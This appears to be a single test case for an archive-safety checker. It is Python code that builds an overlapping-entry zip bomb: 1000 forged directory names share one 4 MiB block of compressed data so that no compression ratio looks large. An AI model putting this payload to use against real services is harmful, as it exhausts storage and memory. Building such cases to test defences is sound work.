# /// row
# tries = "Lets a thousand names share the same compressed bytes, so that no ratio looks large."
# report = "ungradable"
# packed = true
# ///
import io
import struct
import zipfile


def build(target):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("target.py", bytes(2**22))
    data = buffer.getvalue()
    start = data.index(b"PK\x01\x02")
    entry = data[start : data.index(b"PK\x05\x06")]
    entries = b""
    for number in range(1000):
        name = f"d/{number:06}x".encode()
        entries += entry[:28] + struct.pack("<H", len(name)) + entry[30:46] + name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1000, 1000, len(entries), start, 0)
    target.write_bytes(data[:start] + entries + end)
